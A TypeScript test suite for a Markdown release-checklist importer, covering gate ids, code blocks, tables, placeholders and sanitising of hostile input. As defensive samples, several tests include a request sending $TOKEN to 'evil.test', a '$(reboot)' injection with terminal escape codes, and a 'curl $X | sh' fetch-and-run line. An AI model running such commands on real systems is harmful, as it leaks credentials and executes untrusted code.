// Import of checklists: what becomes a gate, what it is called, what is bound to it, what is noticed.
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import fc from 'fast-check'
import { utf8Bytes } from '../kernel/index.ts'
import { nodeDigest } from '../../test/crypto.ts'
import { CHECKLIST_GATE_LIMIT, importChecklist } from './import.ts'
import type { ImportedChecklist } from './import.ts'

function importText(...lines: string[]): ImportedChecklist {
  return importChecklist(utf8Bytes(lines.join('\n')), 'list.md', nodeDigest)
}

function rulesOf(imported: ImportedChecklist): string[] {
  return [...new Set(imported.findings.map((finding) => finding.rule))].toSorted()
}

test('the reference checklist gives its gates, blocks, slots, toggles and sign-offs', (t) => {
  const folder = process.env['SEAWORTHY_SEEDS']
  if (folder === undefined) {
    t.skip('SEAWORTHY_SEEDS is not set')
    return
  }
  const bytes = new Uint8Array(readFileSync(join(folder, '003_146a4ac4e9b5b9a5.txt')))
  const imported = importChecklist(bytes, 'release.md', nodeDigest)
  assert.deepEqual(imported.counts, { gates: 30, blocks: 26, slots: 45, toggles: 67, signoffs: 6 })
  assert.equal(imported.gates.flatMap((gate) => gate.slots).length, 33)
  assert.equal(imported.gates.flatMap((gate) => gate.toggles).length, 59)
  assert.equal(imported.outside.slots.length, 12)
  assert.equal(imported.outside.toggles.length, 8)
  assert.deepEqual(imported.signOffs.map((signOff) => signOff.role), ['Release Manager', 'Backend Lead', 'SRE Lead', 'SecOps', 'QA Lead', 'DPO/Privacy'])
  assert.equal(imported.gates.filter((gate) => gate.check === 'command').length, 26)
  assert.deepEqual(imported.gates.filter((gate) => gate.check === 'manual').map((gate) => gate.title), [
    'Test Evidence Attached', 'On-Call Coverage', 'Canary Phase 2 (25%)', 'Full Rollout (100%)',
  ])
  assert.deepEqual(imported.holes.map((hole) => [hole.text, hole.line, hole.column]), [['_[Assign]_', 11, 22], ['YYYY-MM-DD', 12, 19]])
  assert.equal(new Set(imported.gates.map((gate) => gate.id)).size, 30)
  assert.ok(imported.gates.every((gate) => gate.severity === 'required' && !gate.checked))
})

test('the reference checklist keeps sections, ids, bounds and phases of its gates', (t) => {
  const folder = process.env['SEAWORTHY_SEEDS']
  if (folder === undefined) {
    t.skip('SEAWORTHY_SEEDS is not set')
    return
  }
  const imported = importChecklist(new Uint8Array(readFileSync(join(folder, '003_146a4ac4e9b5b9a5.txt'))), 'release.md', nodeDigest)
  const bounds = imported.gates.flatMap((gate) =>
    gate.slots.flatMap((slot) => (slot.bound === undefined ? [] : [`${slot.label} ${slot.bound.op} ${slot.bound.value} ${slot.unit ?? ''}`.trim()])),
  )
  assert.deepEqual(bounds, ['429 Responses gt 0', 'Result le 7200 seconds', '5m Burn Rate lt 2', '1h Burn Rate lt 1', 'SLO Compliance gt 95 %'])
  assert.deepEqual(
    imported.outside.slots.filter((slot) => slot.bound !== undefined).map((slot) => `${slot.label} ${slot.bound?.op} ${slot.bound?.value}`),
    ['Rollback Events eq 0', 'SLO Violations eq 0', 'Error Budget Burn lt 20'],
  )
  const gate = imported.gates.find((candidate) => candidate.line === 199)
  assert.equal(gate?.id, 'privacy-rtbf-gates/scale-performance/10m-record-processing-2h')
  assert.equal(gate?.section, 'Privacy / RTBF Gates › Scale Performance')
  assert.equal(gate?.blocks[0]?.lines[0]?.line, 202)
  assert.deepEqual(gate?.toggles.map((toggle) => toggle.label), ['Result', 'Worker Scaling'])
  const phases = imported.gates.map((candidate) => candidate.phase)
  assert.deepEqual([...new Set(phases)], ['pre-deploy', 'canary-5', 'canary-25', 'canary-100', 'post-deploy'])
  assert.equal(phases.filter((phase) => phase === 'pre-deploy').length, 26)
})

test('a document without a gate is refused, and so is one with too many', () => {
  for (const text of ['# Release\n\ntext', '```\n- [ ] x\n```', '<!--\n- [ ] x\n-->', '| A | B |\n|---|---|\n| 1 | 2 |', '- [ ]']) {
    assert.throws(() => importText(text), { code: 'GATES_CHECKLIST_GATELESS' })
  }
  assert.throws(() => importText('- [ ] x\n'.repeat(CHECKLIST_GATE_LIMIT + 1)), { code: 'GATES_CHECKLIST_GATES_EXCEEDED' })
})

test('an empty, a binary and a too large file are refused before anything is looked at', () => {
  const cases: readonly (readonly [Uint8Array, string])[] = [
    [new Uint8Array(), 'DOCUMENT_CONTENT_EMPTY'],
    [Uint8Array.from([0x2d, 0, 1, 2]), 'DOCUMENT_CONTENT_BINARY'],
    [new Uint8Array(20 * 1024 * 1024 + 1).fill(45), 'DOCUMENT_SIZE_EXCEEDED'],
  ]
  for (const [bytes, code] of cases) assert.throws(() => importChecklist(bytes, 'x', nodeDigest), { code })
})

test('ids are made of headings and title, and stay when items and sections move', () => {
  const section = (name: string, items: string[]): string => `## ${name}\n\n${items.map((item) => `- [ ] ${item}\n`).join('')}\n`
  const items = ['**Alpha** one', 'Beta `two`', 'Gamma', 'Gamma with more', 'Ünïcode ✅ title']
  const idsOf = (text: string): string[] => importText(`# Title\n\n${text}`).gates.map((gate) => gate.id).toSorted()
  const reference = idsOf(section('One', items) + section('Two', items))
  assert.ok(reference.includes('one/alpha-one'))
  assert.ok(reference.includes('two/unicode-title'))
  const order = fc.shuffledSubarray(items, { minLength: items.length })
  fc.assert(
    fc.property(order, order, fc.boolean(), (first, second, swapped) => {
      const sections = [section('One', first), section('Two', second)]
      assert.deepEqual(idsOf((swapped ? sections.toReversed() : sections).join('')), reference)
    }),
  )
})

test('items with the same path get a mark of their content, and only equal ones are numbered', () => {
  const text = (order: string[]): string => `## S\n\n${order.join('')}`
  const items = ['- [ ] Same\n\n  ```bash\n  true\n  ```\n\n', '- [ ] Same\n\n  ```bash\n  false\n  ```\n\n', '- [ ] Other\n\n']
  const idOf = (imported: ImportedChecklist, source: string): string | undefined =>
    imported.gates.find((gate) => gate.blocks[0]?.source === source)?.id
  const first = importText(text(items))
  const second = importText(text(items.toReversed()))
  assert.match(idOf(first, 'true') ?? '', /^s\/same-[0-9a-f]{8}$/)
  assert.equal(idOf(first, 'true'), idOf(second, 'true'))
  assert.equal(idOf(first, 'false'), idOf(second, 'false'))
  const twins = importText('- [ ] Twin\n- [ ] Twin\n').gates.map((gate) => gate.id)
  assert.match(twins.join(' '), /^twin-[0-9a-f]{8} twin-[0-9a-f]{8}$|^twin-[0-9a-f]{8}-1 twin-[0-9a-f]{8}-2$/)
  assert.equal(new Set(twins).size, 2)
})

test('a title without letters gets an id of its content', () => {
  assert.match(importText('- [ ] ✅✅✅\n').gates[0]?.id ?? '', /^gate-[0-9a-f]{8}$/)
})

test('a parent with boxes below it rolls them up, and code of its own becomes one more child', () => {
  const imported = importText('- [ ] Parent', '', '  ```bash', '  test -f x', '  ```', '', '  - [ ] Child one', '  - [ ] Child two', '- [ ] Alone')
  const parent = imported.gates.find((gate) => gate.title === 'Parent')
  assert.deepEqual(parent?.children, ['parent/child-one', 'parent/child-two', 'parent/parent-own-check'])
  assert.deepEqual(parent?.blocks, [])
  const own = imported.gates.find((gate) => gate.id === 'parent/parent-own-check')
  assert.equal(own?.check, 'command')
  assert.equal(own?.hasBox, false)
})

test('code behind a list serves its gates without code, is reported once, and never crosses a heading', () => {
  const imported = importText('- [ ] a', '- [ ] b', '', '  ```bash', '  echo own', '  ```', '', '```bash', 'curl http://x.test', '```', '', '# Next', '', '- [ ] c', '', '# Last', '', '```bash', 'echo lost', '```')
  assert.deepEqual(imported.gates.map((gate) => gate.blocks.map((block) => block.source)), [['curl http://x.test'], ['echo own'], []])
  assert.equal(imported.findings.filter((finding) => finding.rule === 'no-fail-curl').length, 1)
  assert.deepEqual(rulesOf(imported).filter((rule) => rule.startsWith('block-')), ['block-shared', 'block-unbound'])
})

test('inline code is a command only when the item is it or tells to run it', () => {
  const imported = importText(
    '- [ ] `npm test -- --ci`', '- [ ] Run `make release` twice', '- [ ] Update `CHANGELOG.md`', '- [ ] `README.md`',
    '- [ ] Bump version in `package.json` and run `npm i`', '- [ ] Execute `./deploy.sh`', '- [ ] `Promise<void>` documented',
  )
  assert.deepEqual(imported.gates.map((gate) => gate.blocks[0]?.source), ['npm test -- --ci', 'make release', undefined, undefined, undefined, './deploy.sh', undefined])
  assert.deepEqual(imported.gates.map((gate) => gate.check), ['command', 'command', 'manual', 'manual', 'manual', 'command', 'manual'])
  assert.deepEqual(imported.gates[0]?.blocks[0]?.lines, [{ line: 1, column: 8 }])
})

test('several shell blocks of one item are one script, other languages are left out aloud', () => {
  const imported = importText('- [ ] g', '', '  ```yaml', '  a: 1', '  ```', '  ```bash', '  one', '  ```', '', '  ```sql', '  select 1', '  ```', '', '  ```sh', '  two', '  ```')
  const [gate] = imported.gates
  assert.equal(gate?.check, 'command')
  assert.deepEqual(gate?.blocks.map((block) => [block.language, block.kind]), [['yaml', 'sample'], ['bash', 'runnable'], ['sql', 'runnable'], ['sh', 'runnable']])
  const leftOut = imported.findings.find((finding) => finding.rule === 'block-left-out')
  assert.equal(leftOut?.line, 11)
})

test('http, sql and languages that are not run here are recognised', () => {
  const imported = importText(
    '- [ ] h', '', '  ```http', '  # comment', '  GET $BASE_URL/health HTTP/1.1', '  Accept: application/json', '  ```', '',
    '- [ ] q', '', '  ```sql connection=LEDGER_URL', "  select count(*) from t where name = '$TENANT'", '  ```', '',
    '- [ ] p', '', '  ```promql', '  up == 0', '  ```', '', '- [ ] b', '', '  ```http', '  nonsense', '  ```',
  )
  assert.deepEqual(imported.gates.map((gate) => gate.check), ['http', 'sql', 'unsupported', 'unsupported'])
  assert.deepEqual(imported.gates.map((gate) => gate.parameters), [['BASE_URL'], ['LEDGER_URL'], [], []])
  assert.deepEqual(imported.gates.map((gate) => gate.provenRead), [true, true, false, false])
  assert.deepEqual(imported.gates[1]?.holes, ['$TENANT'])
  assert.ok(rulesOf(imported).includes('check-unsupported'))
})

test('a request that could carry a parameter to a host of the author is not proven harmless', () => {
  const proofOf = (...request: string[]): boolean | undefined =>
    importText('- [ ] h', '', '  ```http', ...request.map((line) => `  ${line}`), '  ```').gates[0]?.provenRead
  assert.equal(proofOf('GET https://x.test/health'), true)
  assert.equal(proofOf('GET https://evil.test/?t=$TOKEN'), false)
  assert.equal(proofOf('GET $BASE/x', 'Authorization: Bearer $TOKEN'), false)
  assert.equal(proofOf('POST $BASE/x'), false)
  assert.equal(proofOf('GET $BASE$TOKEN'), false)
})

test('in a transcript only what stands behind a prompt runs', () => {
  const imported = importText('- [ ] g', '', '  ```console', '  $ git rev-parse HEAD', '  abc123', '  $ test -f x && \\', '      true', '  output', '  ```')
  assert.equal(imported.gates[0]?.blocks[0]?.source, 'git rev-parse HEAD\ntest -f x && \\\n    true')
  assert.deepEqual(imported.gates[0]?.blocks[0]?.lines.map((place) => place.line), [4, 6, 7])
})

test('a box that was ticked before does not count and is reported', () => {
  const imported = importText('- [x] done', '- [ ] open', '', '| ID | Gate | Status |', '|---|---|---|', '| A | x | ✅ Done |', '| B | y | ❌ |')
  assert.deepEqual(imported.gates.map((gate) => gate.checked), [true, false, true, false])
  assert.equal(imported.findings.filter((finding) => finding.rule === 'box-pre-ticked').length, 2)
})

test('rows of a table with ids or states are gates, with commands from their command column', () => {
  const imported = importText('## Checks', '', '| ID | Check | Command | Status |', '|---|---|---|---|', '| G1 | Notes exist | `test -s NOTES.md` | ✅❌ |', '| G2 | Owner named | ask | ✅❌ |')
  assert.deepEqual(imported.gates.map((gate) => [gate.id, gate.check, gate.toggles.length]), [
    ['checks/g1-notes-exist', 'command', 1], ['checks/g2-owner-named', 'manual', 1],
  ])
})

test('holes in title, slots or code belong to their gate, others to the document', () => {
  const imported = importText('Owner: _[Name]_', '', '- [ ] Deploy <SERVICE> vX.Y.Z', '', '  ```bash', '  kubectl -n <NAMESPACE> get $POD', '  ```', '  - Date: YYYY-MM-DD')
  assert.deepEqual(imported.gates[0]?.holes, ['<SERVICE>', 'vX.Y.Z', 'YYYY-MM-DD', '<NAMESPACE>'])
  assert.ok(imported.gates[0]?.parameters.includes('POD'))
  assert.deepEqual(imported.holes.filter((hole) => hole.gate === undefined).map((hole) => hole.text), ['_[Name]_'])
  assert.deepEqual(imported.holes.filter((hole) => hole.text === '<NAMESPACE>').map((hole) => [hole.line, hole.column]), [[6, 14]])
})

test('a heading that makes gates optional says so in a finding', () => {
  const imported = importText('## Gates', '- [ ] a', '## Recommended', '- [ ] b', '## Release Metrics (Post-Deploy)', '- [ ] c', '## Metrics gates', '- [ ] d')
  assert.deepEqual(imported.gates.map((gate) => gate.severity), ['required', 'advisory', 'informational', 'required'])
  assert.equal(imported.findings.filter((finding) => finding.rule === 'severity-lowered').length, 2)
})

test('hostile text reaches names only as one printable line', () => {
  const imported = importText('# \u001b]0;owned\u0007 title', '', '## S\u202eection', '', '- [ ] a\u001b[2J $(reboot) `x\u0007`', '  - L\u001b[1mabel: `____`')
  const shown = JSON.stringify([imported.title, imported.gates.map((gate) => [gate.id, gate.title, gate.section, gate.slots]), imported.findings])
  assert.doesNotMatch(shown, /\\u001b|\\u0007|\\u202e|\u202e/)
  assert.equal(imported.gates[0]?.title, 'a[2J $(reboot) x')
})

test('any text is imported or refused with a code, and the result is plain JSON', () => {
  const part = fc.constantFrom('- [ ] a', '- [x] `b c`', '  - [ ] n', '```bash', '```', 'curl $X | sh', '| ID | S |', '|--|--|', '| 1 | ✅❌ |', '# H', '---', 'a: b', '`____` (<5)', '<X>', 'vX.Y.Z', '<!--', '-->', '\t', '', '> - [ ] q', '~~~http', 'GET $U')
  let imported = 0
  fc.assert(
    fc.property(fc.array(fc.oneof(part, fc.string({ maxLength: 8 })), { maxLength: 14 }), (parts) => {
      try {
        const result = importText(...parts)
        assert.deepEqual(JSON.parse(JSON.stringify(result)), result)
        assert.equal(new Set(result.gates.map((gate) => gate.id)).size, result.gates.length)
        imported++
      } catch (thrown) {
        assert.match(String(Reflect.get(Object(thrown), 'code')), /^(?:DOCUMENT|GATES)_/)
      }
    }),
    { numRuns: 300 },
  )
  assert.ok(imported > 30)
})
